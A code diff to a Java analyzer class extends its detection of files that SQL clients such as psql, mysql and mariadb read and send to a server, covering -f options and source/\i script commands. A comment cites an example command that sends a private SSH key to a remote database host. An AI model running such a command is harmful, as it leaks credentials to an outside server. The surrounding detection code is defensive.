@@ -87,7 +87,7 @@ final class SqlFiles {
      * {@code PROGRAM} are no file. A server-side {@code COPY … FROM 'F'} reads the server's own file.
      */
     static List<String> clientCopyReads(Cmd c) {
-        List<String> out = new ArrayList<>();
+        List<String> out = new ArrayList<>(scriptReads(c));
         for (String a : c.getArgs()) {
             java.util.regex.Matcher m = CLIENT_COPY_FROM.matcher(PathFacts.unquote(a));
             while (m.find()) {
@@ -95,6 +95,48 @@ final class SqlFiles {
                 if (!Regex.matches(f, "(?i)stdin|pstdin|program")) {
                     out.add(f);
                 }
+            }
+        }
+        return out;
+    }
+
+    /**
+     * A client command running a file of statements: mysql's and mariadb's {@code source F},
+     * {@code \. F}; psql's {@code \i F}, {@code \ir F}, {@code \include F}; group 1 the file.
+     */
+    private static final java.util.regex.Pattern CLIENT_SOURCE = java.util.regex.Pattern.compile(
+            "(?i)(?:^|[;\\n])\\s*(?:source|\\\\include_relative|\\\\include|\\\\ir|\\\\i|\\\\\\.)\\s+['\"]?([^\\s;'\"]+)");
+
+    /**
+     * The script files a SQL client reads and sends to its server as statements: psql's {@code -f F},
+     * {@code --file=F} ({@code -} is standard input), mysql's and mariadb's {@code source F} or
+     * {@code \. F} inside {@code -e}/{@code --execute}, psql's {@code \i F} inside {@code -c}. WHY: the server gets every line of the file
+     * (its error quotes them back), as with {@code \copy … FROM F}; a key named as the script
+     * ({@code psql -h db.example.com -f ~/.ssh/id_rsa}) goes to that server.
+     */
+    private static List<String> scriptReads(Cmd c) {
+        List<String> out = new ArrayList<>();
+        List<String> args = c.getArgs();
+        boolean psql = c.getName().equals("psql");
+        for (int i = 0; i < args.size(); i++) {
+            String a = args.get(i);
+            String f = null;
+            if (psql && (a.equals("-f") || a.equals("--file")) && i + 1 < args.size()) {
+                f = args.get(i + 1);
+            } else if (psql && a.startsWith("--file=")) {
+                f = a.substring(7);
+            } else if (psql && a.startsWith("-f") && a.length() > 2) {
+                f = a.substring(2);
+            } else if ((a.equals("-e") || a.equals("--execute") || a.equals("-c") || a.equals("--command")) && i + 1 < args.size()
+                    || a.startsWith("--execute=") || a.startsWith("--command=")) {
+                String sql = PathFacts.unquote(a.startsWith("--") && a.contains("=") ? a.substring(a.indexOf('=') + 1) : args.get(i + 1));
+                java.util.regex.Matcher m = CLIENT_SOURCE.matcher(sql);
+                while (m.find()) {
+                    out.add(m.group(1));
+                }
+            }
+            if (f != null && !PathFacts.unquote(f).equals("-")) {
+                out.add(PathFacts.unquote(f));
             }
         }
         return out;
